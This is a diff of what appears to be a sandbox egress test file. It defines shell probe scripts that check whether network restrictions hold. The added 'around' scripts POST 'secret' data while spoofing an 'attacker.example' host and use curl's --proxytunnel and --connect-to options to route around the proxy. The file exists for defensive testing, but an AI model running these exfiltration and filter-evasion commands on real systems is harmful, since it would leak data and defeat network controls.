@@ -88,7 +88,14 @@ curl -sS -m 60 -X POST -d secret http://10.99.0.1:8080/x; curl -sS -m 60 http://
 ls -la /run/*.sock /var/run /tmp/.X11-unix 2>&1 | grep -c socket`,
   },
   allowed: {
-    script: `curl -sS -m 60 http://10.99.0.1:8080/plain; curl -sS -m 60 --proxytunnel http://10.99.0.1:8080/tunnel; cat /proc/net/dev | tail -n +3 | wc -l`,
+    script: `curl -sS -m 60 http://10.99.0.1:8080/plain; curl -sS -m 60 http://mirror.example:8080/debian
+curl -sSk -m 60 https://mirror.example:8443/tunnel; cat /proc/net/dev | tail -n +3 | wc -l`,
+  },
+  around: {
+    script: `curl -sS -m 60 --proxytunnel -d secret http://mirror.example:8080/x; echo "curl $?"
+curl -sS -m 60 --proxytunnel -d secret -H 'host: attacker.example' http://10.99.0.1:8080/x; echo "curl $?"
+curl -sSk -m 60 --connect-to attacker.example:443:mirror.example:8443 https://attacker.example/; echo "curl $?"
+curl -sSk -m 60 --connect-to 10.99.0.2:443:mirror.example:8443 https://10.99.0.2/; echo "curl $?"`,
   },
   neighbours: {
     script: `sleep 3; curl -sS -m 60 --noproxy '*' http://127.0.0.1:5000/ || echo nobody; ls ~/..; ps aux 2>/dev/null | grep -c http.serve[r]`,
